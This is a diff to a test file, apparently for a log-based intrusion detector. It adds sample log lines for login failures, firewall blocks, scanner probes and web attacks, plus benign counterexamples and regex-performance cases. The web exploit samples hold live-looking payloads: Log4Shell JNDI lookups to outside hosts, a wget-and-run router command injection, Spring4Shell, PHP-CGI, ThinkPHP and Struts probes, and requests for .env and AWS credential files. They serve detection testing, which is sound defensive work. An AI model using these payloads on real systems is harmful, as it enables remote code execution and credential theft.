@@ -153,6 +153,13 @@ FAMILIES = {
         _H + "sshd[4711]: Connection from 61.2.3.4 port 4242 on 10.0.0.1 port 22 rdomain \"\"",
     ]),
     "pam failure": ((0x1025,), [
+        # util-linux login's later wording; polkit's helper and daemon.
+        _H + "login[811]: FAILED LOGIN SESSION FROM tty3 FOR ops, Authentication failure",
+        _H + "polkit-agent-helper-1[3096]: polkit-agent-helper-1: pam_authenticate failed:"
+        " Authentication failure",
+        _H + "polkitd[1836]: Operator of unix-session:7 FAILED to authenticate to gain"
+        " authorization for action org.freedesktop.policykit.exec for unix-process:386:2223"
+        " [/usr/bin/bash] (owned by unix-user:ops)",
         _H + "sshd[4711]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0"
         " tty=ssh ruser= rhost=61.2.3.4  user=root",
         _H + "dovecot[811]: pam_unix(dovecot:auth): authentication failure; logname= uid=0"
@@ -200,7 +207,10 @@ FAMILIES = {
         _H + "su[123]: - /dev/pts/0 alice:root",
         _H + "sudo:    alice.smith : 3 incorrect password attempts ; TTY=pts/0 ;"
         " PWD=/home/alice ; USER=root ; COMMAND=/bin/ls",
+        # doas (OpenBSD's; Alpine, Arch).
+        _H + "doas[3854]: failed auth for dmitri",
     ], [
+        _H + "doas[3854]: alice ran command ls as root from /home/alice",
         _H + "su: (to root) alice on /dev/pts/0",
         _H + "su[123]: + /dev/pts/0 alice:root",
         _H + "su[123]: Successful su for root by alice",
@@ -208,6 +218,7 @@ FAMILIES = {
         ' "3 incorrect password attempts" /var/log/secure',
     ]),
     "unauthorised sudo": ((0x102A,), [
+        _H + "doas[3854]: command not permitted for www-data: cat /etc/shadow",
         _H + "sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ;"
         " COMMAND=/bin/bash",
         _H + "sudo[999]:      bob : command not allowed ; PWD=/home/bob ; USER=root ;"
@@ -273,6 +284,11 @@ FAMILIES = {
         " DPT=1434 LEN=394",
         _H + "kernel: [UFW BLOCK] IN=eth0 OUT= MAC=a2 SRC=2001:db8::1 DST=2001:db8::2 LEN=414"
         " TC=0 HOPLIMIT=64 FLOWLBL=0 PROTO=TCP SPT=6537 DPT=22 WINDOW=1 RES=0x00 SYN URGP=0",
+        # ConfigServer Firewall's invalid packets and port floods.
+        _H + "kernel: [1572900.962418] Firewall: *INVALID* IN=eth0 OUT= MAC=f4 SRC=61.2.3.4"
+        " DST=192.0.2.1 LEN=44 TOS=0x00 PREC=0x00 TTL=110 ID=17128 PROTO=TCP SPT=56666 DPT=5555",
+        _H + "kernel: Firewall: *Port Flood* IN=eth0 OUT= MAC=52 SRC=61.2.3.4 DST=192.0.2.1"
+        " LEN=69 TOS=0x00 PREC=0x00 TTL=50 ID=1 PROTO=UDP SPT=53 DPT=53 LEN=49",
         # pf's filterlog (pfSense, OPNsense): IPv4, IPv6.
         _PF + "block" + _PF_TCP,
         _PF + "block,in,6,0x00,0x00000,255,ipv6-icmp,58,32,2001:db8::1,ff02::1,ICMPv6,"
@@ -302,6 +318,31 @@ FAMILIES = {
         _WEB + '/default.ida?NNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801 HTTP/1.0" 404 1024',
     ], [
         _OK + '/downloads/cmd.exe-guide.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+    ]),
+    "web exploit": ((0x7010,), [
+        # Log4Shell: in the request, a header; obfuscated, encoded.
+        _WEB + '/?x=%24%7Bjndi%3Adns%3A%2F%2F60eca300c6.oast.fun%2Fa%7D HTTP/1.1" 200 1 "-" "M"',
+        _WEB + '/ HTTP/1.1" 200 1 "-" "${jndi:ldap://82.212.123.41:1389/a}"',
+        _WEB + '/ HTTP/1.1" 404 1 "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://1.2.3.4/x}" "M"',
+        # Spring4Shell, PHP-CGI, PHPUnit, Struts' OGNL, ThinkPHP, GPON,
+        # a router's command injection.
+        _WEB + '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'
+        ' HTTP/1.1" 200 1 "-" "M"',
+        _WEB + '/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'
+        ' HTTP/1.1" 404 1 "-" "M"',
+        _WEB + '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 1 "-" "M"',
+        _WEB + '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%29%7D/ HTTP/1.1"'
+        ' 400 1 "-" "M"',
+        _WEB + '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array'
+        '&vars[0]=md5 HTTP/1.1" 404 1 "-" "M"',
+        _WEB + '/GponForm/diag_Form?images/ HTTP/1.1" 404 1 "-" "Hello, World"',
+        _WEB + '/shell?cd+/tmp;rm+-rf+*;wget+http://87.165.229.60/jaws;sh+/tmp/jaws HTTP/1.1"'
+        ' 404 1 "-" "Hello, world"',
+    ], [
+        _OK + '/docs/jndi-lookup-guide.html HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
+        _OK + '/tpl?x=%24%7Bname%7D&y=${user} HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
+        _OK + '/blog/php-cgi-allow_url_include-explained HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
+        _OK + '/search?q=wget+http+download+tutorial HTTP/1.1" 200 1 "-" "Mozilla/5.0"',
     ]),
     "web Shellshock": ((0x7010,), [
         _WEB + '/cgi-bin/status HTTP/1.1" 200 1024 "-" "() { :; }; /bin/bash -c \\"wget'
@@ -379,6 +420,9 @@ FAMILIES = {
         _SYSLOG_OK + '/search?q=select+from+union+station HTTP/1.1" 200 512 "-" "curl/8.0"',
         _OK + '/search?q=just+in+case+when+travelling HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/menu/(select)+from+the+list HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _OK + '/search?q=what+to+do+in+case+when+2+cars+collide HTTP/1.1" 200 1 "-" "M"',
+        _OK + '/search?q=case+when+rain(forecast) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _OK + '/faq?q=(select+one+from+the+list) HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/blog/2024/11/comments%2F**%2Fare%2Fback HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
     ]),
     "web XSS": ((0x7013,), [
@@ -406,6 +450,11 @@ FAMILIES = {
         _WEB + '/acunetix-wvs-test-for-some-inexistent-file HTTP/1.1" 404 1024 "-" "-"',
         _WEB + '/nessus_is_probing_you_ HTTP/1.1" 404 1024 "-" "-"',
         _WEB + '/index.php?q=acunetix_wvs_security_test HTTP/1.1" 404 456 "-" "Mozilla/5.0"',
+        # The files a scanner looks for: credentials, a repository.
+        _WEB + '/.env HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
+        _WEB + '/vendor/.env HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
+        _WEB + '/.git/config HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
+        _WEB + '/.aws/credentials HTTP/1.1" 404 19 "-" "Mozilla/5.0"',
         _SYSLOG_WEB + '/w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 400 1024 "-" "-"',
         # DFind's probe has no Host header: Apache 2.2's error, 2.4's debug message.
         "[Fri Mar 08 05:22:28 2024] [error] [client 61.2.3.4] client sent HTTP/1.1 request"
@@ -418,11 +467,19 @@ FAMILIES = {
         ' "Mozilla/5.0"',
         _OK + '/blog/nice%20ports%2C%20harbours.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         _OK + '/blog/acunetix-wvs-security-review HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _OK + '/docs/.env.example HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _OK + '/blog/what-is-a-.env-file HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
+        _OK + '/.well-known/security.txt HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
         # A client without a Host header, not DFind.
         "[Fri Mar 08 05:22:28 2024] [error] [client 10.1.2.3] client sent HTTP/1.1 request"
         " without hostname (see RFC2616 section 14.23): /",
     ]),
     "mail login failure": ((0x1027,), [
+        # OpenSMTPD.
+        "Mar  9 03:47:26 mx smtpd[22899]: de68e766d532c59d smtp authentication"
+        " user=bob@example.org result=permfail",
+        "Mar  9 03:47:26 mx smtpd[22899]: de68e766d532c59d smtp event=authentication"
+        " user=bob@example.org result=permfail",
         "Nov 22 10:00:01 mail postfix/smtpd[1234]: warning: unknown[61.2.3.4]: SASL LOGIN"
         " authentication failed: UGFzc3dvcmQ6",
         "Nov 22 10:00:01 mail dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2"
@@ -857,6 +914,16 @@ class DefaultContentTests(SynchronousTestCase):
                  web + "list.php?sort=(select%20benchmark(5,md5(1" + ")" * 20000
                  + ' HTTP/1.1" 200 1 "-" "-"', web + "(select+" + "a," * 20000 + '" 200 1',
                  web + "case+when+" + "a" * 40000 + '" 200 1 "-" "-"',
+                 # Opening parentheses, which a subquery's separators once
+                 # shared with its columns (85 s at 60 kB); subqueries again.
+                 web + "?q=(select" + "(" * 20000 + '" 200 1 "-" "-"',
+                 web + "(select" * 8000 + '" 200 1 "-" "-"',
+                 web + "(select+a+from+" * 4000 + '" 200 1 "-" "-"',
+                 # filterlog's words again and again after a short record
+                 # (its fields regex is searched: 1 s when the rule number
+                 # could be anything).
+                 "Mar  4 10:10:53 fw filterlog[1]: 5,,,1,em0,match,block,in,4,"
+                 + "filterlog: " * 5500,
                  # A time stamp's fraction of 60,000 digits and dots before a
                  # program the fields regex finds anywhere in the line (1.7 s
                  # when a name before "(pam_google_authenticator)" could
@@ -1128,6 +1195,15 @@ class ExtractTests(SynchronousTestCase):
                    Node(address="61.2.3.4", port=4242),
                    Node(address="10.0.0.9", hostname="gate", process="sshd", pid=4711,
                         service="ssh"))
+
+    def test_filterlogOnlyPfs(self):
+        """
+        filterlog's fields in a request a client sent are not pf's: the
+        source is the client (it was the spoofed address).
+        """
+        self.check(_WEB + '/x filterlog: 1,,,,,,,,4,,,,,,,,,,192.0.2.1,192.0.2.2,1,2 HTTP/1.1" 404'
+                          ' 1 "-" "M"', Node(address="61.2.3.4"),
+                   Node(address="10.0.0.9", hostname="gate"))
 
     def test_filterlog(self):
         """
